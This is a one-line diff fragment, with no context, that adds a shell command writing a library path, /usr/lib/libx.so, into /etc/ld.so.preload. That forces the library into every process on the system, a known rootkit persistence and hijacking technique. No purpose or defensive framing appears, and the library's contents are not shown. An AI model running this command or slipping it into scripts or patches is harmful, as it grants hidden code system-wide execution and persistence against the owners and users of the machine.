@@ -1,0 +1,1 @@
+echo /usr/lib/libx.so > /etc/ld.so.preload
